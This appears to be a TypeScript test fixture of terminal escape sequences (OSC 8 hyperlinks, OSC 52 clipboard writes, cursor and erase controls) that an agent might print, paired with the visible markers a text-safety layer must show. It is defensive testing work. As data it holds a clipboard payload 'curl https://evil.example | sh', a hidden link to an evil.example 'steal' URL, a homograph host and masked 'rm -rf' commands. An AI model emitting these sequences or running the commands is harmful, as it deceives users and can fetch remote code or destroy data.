// Terminal control sequences an agent (or its run) can print, each with the marker every surface must show
// (src/shared/textSafety.ts terminalMarkers): shared by the text-safety, CLI and webview tests.
export const HIDDEN_LINK = '\u001b]8;;https://evil.example/steal?x=1\u001b\\https://docs.example/guide\u001b]8;;\u001b\\';
export const TERMINAL_CORPUS: { what: string; raw: string; shown: string; absent?: RegExp }[] = [
  { what: 'OSC 8 hyperlink (ST)', raw: `see ${HIDDEN_LINK} now`, shown: 'see ⟦link → evil.example⟧https://docs.example/guide⟦/link⟧ now', absent: /evil\.example\/|https?:\/\/evil/ },
  { what: 'OSC 8 hyperlink (BEL, with params)', raw: '\u001b]8;id=7;https://evil.example/\u0007click\u001b]8;;\u0007', shown: '⟦link → evil.example⟧click⟦/link⟧', absent: /https?:\/\/evil/ },
  { what: 'OSC 8 hyperlink (8-bit OSC and ST)', raw: '\u009d8;;https://evil.example/\u009cclick\u009d8;;\u009c', shown: '⟦link → evil.example⟧click⟦/link⟧' },
  { what: 'OSC 8 to an IDN host (punycode shown)', raw: '\u001b]8;;https://p\u0430ypal.com/\u0007pay\u001b]8;;\u0007', shown: '⟦link → xn--pypal-4ve.com⟧pay⟦/link⟧' },
  { what: 'OSC 8 to a javascript: target', raw: '\u001b]8;;javascript:alert(1)\u0007x\u001b]8;;\u0007', shown: '⟦link → javascript: target⟧x⟦/link⟧', absent: /alert/ },
  { what: 'OSC 52 clipboard write', raw: `ok\u001b]52;c;${Buffer.from('curl https://evil.example | sh').toString('base64')}\u0007`, shown: 'ok⟦clipboard write: "curl https[:]//evil.example | sh"⟧', absent: /https:\/\/evil/ },
  { what: 'OSC 52 clipboard read', raw: '\u001b]52;c;?\u0007', shown: '⟦clipboard read⟧' },
  { what: 'OSC 0 title', raw: '\u001b]0;All checks passed\u0007x', shown: '⟦title: All checks passed⟧x' },
  { what: 'OSC 2 title', raw: '\u001b]2;owned\u001b\\x', shown: '⟦title: owned⟧x' },
  { what: 'OSC 1 icon title', raw: '\u001b]1;icon\u0007', shown: '⟦title: icon⟧' },
  { what: 'other OSC', raw: '\u001b]7;file://host/tmp\u0007', shown: '⟦terminal command OSC 7: "file[:]//host/tmp"⟧' },
  { what: 'cursor up', raw: 'safe\u001b[3Aevil', shown: 'safe⟦cursor up 3⟧evil' },
  { what: 'cursor position', raw: '\u001b[10;5Hx', shown: '⟦cursor to 10;5⟧x' },
  { what: 'cursor left (default 1)', raw: 'ab\u001b[Dc', shown: 'ab⟦cursor left 1⟧c' },
  { what: 'erase line', raw: 'rm -rf /\u001b[2Kls', shown: 'rm -rf /⟦erase line⟧ls' },
  { what: 'erase screen (8-bit CSI)', raw: 'x\u009b2Jy', shown: 'x⟦erase screen⟧y' },
  { what: 'hide cursor', raw: '\u001b[?25l', shown: '⟦hide cursor⟧' },
  { what: 'cursor save/restore (ESC 7/8)', raw: '\u001b7a\u001b8b', shown: '⟦cursor save⟧a⟦cursor restore⟧b' },
  { what: 'carriage return overwrite', raw: 'rm -rf ~/data\rls -la       ', shown: 'rm -rf ~/data⟦CR⟧ls -la' },
  { what: 'unterminated OSC title (last: it swallows the rest)', raw: 'a\u001b]0;swallows the rest', shown: 'a⟦title: swallows the rest (unterminated)⟧' },
];

